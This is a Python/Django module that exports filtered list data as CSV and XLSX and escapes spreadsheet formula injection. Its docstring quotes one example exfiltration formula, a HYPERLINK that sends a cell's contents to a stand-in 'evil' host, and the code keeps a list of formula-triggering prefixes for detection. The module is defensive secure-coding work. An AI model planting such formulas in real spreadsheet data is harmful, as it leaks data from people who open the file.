"""Lists as CSV and XLSX files, for pages and the API alike.

A room describes its columns (``ExportColumn``: a header and how to read the cell from a row) next
to its selectors; this module writes the rows it is given and nothing else, so an export holds
exactly the rows its list shows the same user (the view passes the list's own filtered queryset).

Spreadsheets run formulas: a vendor-controlled text such as ``=HYPERLINK("http://evil/?"&A1)``
would run when a ministry officer opens the export (CSV injection, OWASP). So:
- CSV: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading apostrophe, which spreadsheet programs show as text and do not evaluate;
- XLSX: every text cell is written with the string type, never the formula type, whatever it
  starts with (openpyxl would otherwise store ``=...`` as a formula).
"""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass
from decimal import Decimal
from typing import Any, Callable, Iterable

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from rest_framework.renderers import BaseRenderer

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORT_FORMATS = ("csv", "xlsx")

# Rows fetched per database round trip while writing (memory stays flat for long lists).
_CHUNK = 2000


@dataclass(frozen=True)
class ExportColumn:
    """One column: its header (translated when written) and the function reading a row's cell."""

    header: Any
    value: Callable[[Any], Any]


@dataclass
class ExportTable:
    """What an export endpoint answers; the CSV and XLSX renderers write it."""

    columns: list[ExportColumn]
    rows: Iterable[Any]
    filename: str


def _plain(value: Any) -> Any:
    """A cell as a number, a date or a text (aware datetimes as local ISO text, lazy strings resolved)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.replace(microsecond=0, tzinfo=None).isoformat(sep=" ")
    if isinstance(value, datetime.date):
        return value
    return str(value)


def csv_cell(value: Any) -> str:
    """A cell as CSV text, escaped against formula injection."""
    value = _plain(value)
    if isinstance(value, datetime.date):
        return value.isoformat()
    if not isinstance(value, str):
        return str(value)  # a number the portal stores (a negative one is no formula)
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def _iterate(rows: Iterable[Any]) -> Iterable[Any]:
    iterator = getattr(rows, "iterator", None)
    if callable(iterator) and not getattr(rows, "_prefetch_related_lookups", ()):
        return iterator(chunk_size=_CHUNK)
    return rows


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(columns: list[ExportColumn], rows: Iterable[Any]) -> Iterable[str]:
    writer = csv.writer(_Echo())
    # A byte-order mark so spreadsheet programs read the Korean text as UTF-8.
    yield "\ufeff" + writer.writerow([csv_cell(column.header) for column in columns])
    for row in _iterate(rows):
        yield writer.writerow([csv_cell(column.value(row)) for column in columns])


def xlsx_bytes(columns: list[ExportColumn], rows: Iterable[Any], *, title: str = "export") -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])

    def cell(value: Any):
        value = _plain(value)
        out = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            out.data_type = "s"  # text, even when it starts with "=": never a formula
        return out

    sheet.append([cell(str(column.header)) for column in columns])
    for row in _iterate(rows):
        sheet.append([cell(column.value(row)) for column in columns])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _disposition(filename: str, extension: str) -> str:
    stamp = timezone.localtime().strftime("%Y%m%d-%H%M")
    return f'attachment; filename="{filename}-{stamp}.{extension}"'


def export_response(*, fmt: str, columns: list[ExportColumn], rows: Iterable[Any], filename: str) -> HttpResponse:
    """The file a page's "Export CSV" / "Export XLSX" link downloads (CSV streamed, XLSX built whole)."""
    if fmt == "csv":
        response = StreamingHttpResponse(csv_lines(columns, rows), content_type=CSV_CONTENT_TYPE)
        response["Content-Disposition"] = _disposition(filename, "csv")
        return response
    if fmt == "xlsx":
        response = HttpResponse(xlsx_bytes(columns, rows, title=filename), content_type=XLSX_CONTENT_TYPE)
        response["Content-Disposition"] = _disposition(filename, "xlsx")
        return response
    raise ValueError(f"export format must be one of {', '.join(EXPORT_FORMATS)}")


def export_requested(request) -> str:
    """The export format a page was asked for (``?export=csv``), or ""."""
    fmt = request.GET.get("export", "")
    return fmt if fmt in EXPORT_FORMATS else ""


class _ExportRenderer(BaseRenderer):
    """Writes an ``ExportTable``; anything else (an error answer) as JSON text."""

    charset = None

    def _fallback(self, data) -> bytes:
        import json

        return json.dumps(data, default=str).encode()

    def render(self, data, accepted_media_type=None, renderer_context=None):
        if not isinstance(data, ExportTable):
            response = (renderer_context or {}).get("response")
            if response is not None:
                response["Content-Type"] = "application/json"
            return self._fallback(data)
        response = (renderer_context or {}).get("response")
        if response is not None:
            response["Content-Disposition"] = _disposition(data.filename, self.format)
        return self.write(data)


class CSVExportRenderer(_ExportRenderer):
    media_type = "text/csv"
    format = "csv"
    charset = "utf-8"

    def write(self, table: ExportTable) -> bytes:
        return "".join(csv_lines(table.columns, table.rows)).encode("utf-8")


class XLSXExportRenderer(_ExportRenderer):
    media_type = XLSX_CONTENT_TYPE
    format = "xlsx"

    def write(self, table: ExportTable) -> bytes:
        return xlsx_bytes(table.columns, table.rows, title=table.filename)


def export_action(*, columns: Callable[[], list[ExportColumn]], filename: str, description: str):
    """A DRF ``export`` list action (``GET .../export/?format=csv|xlsx`` with the list's filters and
    sort), documented in the OpenAPI schema. The rows are the viewset's own filtered queryset, so an
    export holds what the list endpoint answers the same caller, unpaginated."""
    from drf_spectacular.types import OpenApiTypes
    from drf_spectacular.utils import OpenApiParameter, extend_schema
    from rest_framework.decorators import action
    from rest_framework.response import Response

    @extend_schema(
        description=description + " Text cells that a spreadsheet would run as a formula (starting with "
        "=, +, -, @, a tab or a carriage return) start with an apostrophe in CSV; XLSX stores every text "
        "as text, never as a formula.",
        parameters=[OpenApiParameter("format", str, enum=list(EXPORT_FORMATS), required=False,
                                     description="csv (the default) or xlsx.")],
        responses={(200, "text/csv"): OpenApiTypes.BINARY, (200, XLSX_CONTENT_TYPE): OpenApiTypes.BINARY},
        filters=True)
    @action(detail=False, methods=["get"], renderer_classes=[CSVExportRenderer, XLSXExportRenderer],
            pagination_class=None)
    def export(self, request, *args, **kwargs):
        rows = self.filter_queryset(self.get_queryset())
        return Response(ExportTable(columns=columns(), rows=rows, filename=filename))

    return export
